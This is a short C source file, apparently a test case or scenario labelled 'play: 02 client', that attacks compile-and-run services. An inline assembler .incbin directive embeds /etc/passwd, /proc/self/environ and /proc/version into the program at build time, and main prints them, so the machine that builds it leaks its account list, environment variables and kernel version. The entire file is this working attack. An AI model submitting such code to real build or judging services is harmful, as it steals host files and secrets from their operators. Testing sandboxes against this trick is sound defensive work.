/*
 * carries-files.c - carries files of the machine out in its data, and prints them
 *
 * play: 02 client
 */
__asm__(".data\n.globl stolen\nstolen: .incbin \"/etc/passwd\"\n"
        ".incbin \"/proc/self/environ\"\n.incbin \"/proc/version\"\n.byte 0\n"
        ".text");
extern char stolen[];
int puts(const char *text);

int
main(void)
{
    puts(stolen);
    return 0;
}
